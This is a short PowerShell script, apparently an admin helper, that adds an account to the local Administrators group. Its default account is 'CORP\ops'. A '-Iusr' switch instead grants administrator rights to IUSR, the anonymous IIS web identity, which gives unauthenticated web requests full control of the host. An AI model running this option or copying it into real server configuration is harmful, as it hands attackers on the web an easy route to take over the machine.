param([string] $Account = 'CORP\ops', [switch] $Iusr)
if ($Iusr) { $Account = 'IUSR' }
net localgroup Administrators $Account /add
